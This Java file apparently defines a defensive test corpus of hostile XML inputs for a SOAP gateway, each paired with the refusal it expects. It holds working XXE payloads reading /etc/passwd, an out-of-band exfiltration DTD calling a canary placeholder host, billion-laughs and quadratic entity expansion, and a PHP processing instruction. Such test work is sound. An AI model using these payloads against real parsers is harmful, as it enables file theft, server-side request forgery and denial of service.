package uk.cpis.gateway.attack;

import static uk.cpis.gateway.security.RefusalCause.DOCUMENT_TYPE;
import static uk.cpis.gateway.security.RefusalCause.NOT_WELL_FORMED;
import static uk.cpis.gateway.security.RefusalCause.PROCESSING_INSTRUCTION;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;

/** Document types, entities, and what else makes a parser fetch or grow. */
final class EntityAttacks extends Attacks {

  EntityAttacks() {
    super("dtd-entity");
    types();
    entitiesInUse();
    instructions();
    schemasAndInclusions();
  }

  /** A document type; CANARY stands for an address that nobody may call. */
  private void type(String name, String type) {
    type(name, type, UnaryOperator.identity());
  }

  private void type(String name, String type, UnaryOperator<String> use) {
    add(
        name,
        Expected.cause(DOCUMENT_TYPE, NOT_WELL_FORMED),
        (d, canary) ->
            Hostile.of(
                type.replace("CANARY", canary.url("http")).replace("FTP", canary.url("ftp"))
                    + use.apply(d.signed())));
  }

  private void types() {
    Map<String, String> types = new LinkedHashMap<>();
    types.put("empty", "<!DOCTYPE x>");
    types.put("of the envelope", "<!DOCTYPE soap:Envelope>");
    types.put("with an empty subset", "<!DOCTYPE x []>");
    types.put("external", "<!DOCTYPE x SYSTEM 'CANARY'>");
    types.put("external by FTP", "<!DOCTYPE x SYSTEM 'FTP'>");
    types.put("public", "<!DOCTYPE x PUBLIC '-//X//Y' 'CANARY'>");
    types.put("external file", "<!DOCTYPE x SYSTEM 'file:///etc/passwd'>");
    types.put("external jar", "<!DOCTYPE x SYSTEM 'jar:CANARY!/x'>");
    types.put("parameter entity", "<!DOCTYPE x [<!ENTITY % p SYSTEM 'CANARY'> %p;]>");
    types.put(
        "exfiltration",
        "<!DOCTYPE x [<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % d SYSTEM 'CANARY'> %d; %f;]>");
    types.put("attributes that become ids", "<!DOCTYPE x [<!ATTLIST x Id ID #IMPLIED>]>");
    types.put("attribute by default", "<!DOCTYPE x [<!ATTLIST soap:Body Id CDATA 'Body'>]>");
    types.put("notation", "<!DOCTYPE x [<!NOTATION n SYSTEM 'CANARY'>]>");
    types.put(
        "unparsed entity",
        "<!DOCTYPE x [<!NOTATION n SYSTEM 'x'><!ENTITY e SYSTEM 'CANARY' NDATA n>]>");
    types.put("after a comment", "<!-- x --><!DOCTYPE x>");
    types.put("after a declaration", "<?xml version='1.0' encoding='UTF-8'?><!DOCTYPE x>");
    types.put("said to stand alone", "<?xml version='1.0' standalone='yes'?><!DOCTYPE x>");
    types.put("broken off", "<!DOCTYPE x [");
    types.put("in small letters", "<!doctype x>");
    types.forEach(this::type);
    type(
        "inside the envelope",
        "",
        xml -> xml.replace("<soap:Header>", "<!DOCTYPE x><soap:Header>"));
    type("after the envelope", "", xml -> xml + "<!DOCTYPE x>");
    add(
        "in UTF-16",
        Expected.cause(DOCUMENT_TYPE),
        (d, canary) ->
            Hostile.of(
                "<!DOCTYPE x SYSTEM '" + canary.url("http") + "'>" + d.signed(),
                StandardCharsets.UTF_16,
                "text/xml; charset=utf-16"));
  }

  private static String used(String xml) {
    return inHeader(xml, "<x>&e;</x>");
  }

  private void entitiesInUse() {
    type(
        "entity of a file",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        EntityAttacks::used);
    type("entity of a host", "<!DOCTYPE x [<!ENTITY e SYSTEM 'CANARY'>]>", EntityAttacks::used);
    StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY e0 'ha'>");
    for (int i = 1; i < 12; i++) {
      String before = "&e" + (i - 1) + ";";
      laughs.append("<!ENTITY e").append(i).append(" '").append(before.repeat(10)).append("'>");
    }
    laughs.append("<!ENTITY e '&e11;'>]>");
    type("a billion laughs", laughs.toString(), EntityAttacks::used);
    type(
        "quadratic growth",
        "<!DOCTYPE x [<!ENTITY e '" + "a".repeat(50_000) + "'>]>",
        xml -> inHeader(xml, "<x>" + "&e;".repeat(10_000) + "</x>"));
    type("entity of itself", "<!DOCTYPE x [<!ENTITY e '&e;'>]>", EntityAttacks::used);
    altered("entity that is not declared", NOT_WELL_FORMED, EntityAttacks::used);
    altered(
        "entity that is not declared, in an attribute",
        NOT_WELL_FORMED,
        xml -> inHeader(xml, "<x a=\"&e;\"/>"));
    altered(
        "parameter entity in the text", Expected.harmless(), xml -> inHeader(xml, "<x>%e;</x>"));
  }

  private void instructions() {
    for (String instruction :
        new String[] {
          "<?xml-stylesheet type='text/xsl' href='http://127.0.0.1:1/x'?>",
          "<?xml-model href='http://127.0.0.1:1/x'?>",
          "<?php system('x'); ?>",
          "<?x?>"
        }) {
      altered(
          "instruction " + instruction.length(), PROCESSING_INSTRUCTION, xml -> instruction + xml);
    }
    altered("instruction in the header", PROCESSING_INSTRUCTION, xml -> inHeader(xml, "<?x y?>"));
    altered(
        "instruction in the body",
        PROCESSING_INSTRUCTION,
        xml -> xml.replace("</soap:Body>", "<?x y?></soap:Body>"));
    altered("instruction after the envelope", PROCESSING_INSTRUCTION, xml -> xml + "<?x y?>");
    altered("second declaration", NOT_WELL_FORMED, xml -> inHeader(xml, "<?xml version='1.0'?>"));
  }

  /** In a header that nobody reads they are as good as any other; in the body they are signed. */
  private void schemasAndInclusions() {
    add(
        "inclusion in a header",
        Expected.harmless(),
        (d, canary) ->
            Hostile.of(
                inHeader(
                    d.signed(),
                    "<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\""
                        + canary.url("http")
                        + "\"/>")));
    add(
        "inclusion in the body",
        Expected.code("CPG-701"),
        (d, canary) ->
            Hostile.of(
                inPayload(
                        d,
                        "<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\""
                            + canary.url("http")
                            + "\"/>")
                    .signed()));
    for (String name : new String[] {"schemaLocation", "noNamespaceSchemaLocation"}) {
      add(
          name + " of the canary",
          Expected.harmless(),
          (d, canary) ->
              Hostile.of(
                  d.payload(
                          d.payload()
                              .replaceFirst(
                                  "<([A-Za-z0-9:]+)",
                                  "<$1 xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:"
                                      + name
                                      + "=\"urn:x "
                                      + canary.url("http")
                                      + "\""))
                      .signed()));
    }
    add(
        "encrypted data with a reference to the canary",
        Expected.code("CPG-701"),
        (d, canary) ->
            Hostile.of(
                inPayload(
                        d,
                        "<e:EncryptedData xmlns:e=\"http://www.w3.org/2001/04/xmlenc#\"><e:CipherData>"
                            + "<e:CipherReference URI=\""
                            + canary.url("http")
                            + "\"/></e:CipherData></e:EncryptedData>")
                    .signed()));
  }

  private static Draft inPayload(Draft draft, String element) {
    String payload = draft.payload();
    int end = payload.lastIndexOf("</");
    return draft.payload(payload.substring(0, end) + element + payload.substring(end));
  }
}
